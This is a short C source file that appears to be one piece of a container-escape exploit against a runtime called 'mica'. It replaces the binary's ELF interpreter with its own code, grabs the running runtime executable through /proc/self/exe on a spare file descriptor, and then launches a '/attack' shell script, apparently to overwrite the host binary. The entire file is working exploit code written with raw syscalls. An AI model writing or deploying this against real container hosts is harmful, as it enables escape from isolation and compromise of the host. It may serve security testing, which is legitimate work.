/* Stands in the image where the interpreter of mica's binary is looked for: run in place of it by `exec /proc/self/exe`, it keeps
   the binary open and goes on as a shell. */
static long call(long n, long a, long b, long c) {
#if defined(__x86_64__)
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
#endif
}
#if defined(__x86_64__)
enum { OPEN = 2, DUP2 = 33, EXECVE = 59, EXIT = 60 };
#define open_exe() call(OPEN, (long)"/proc/self/exe", 0, 0)
#define to_nine(fd) call(DUP2, fd, 9, 0)
#else
enum { OPENAT = 56, DUP3 = 24, EXECVE = 221, EXIT = 93 };
#define open_exe() call(OPENAT, -100, (long)"/proc/self/exe", 0)
#define to_nine(fd) call(DUP3, fd, 9, 0)
#endif
void _start(void) {
    char *argv[] = {"sh", "/attack", 0};
    char *envp[] = {"PATH=/bin", 0};
    to_nine(open_exe());
    call(EXECVE, (long)"/bin/sh", (long)argv, (long)envp);
    call(EXIT, 99, 0, 0);
}
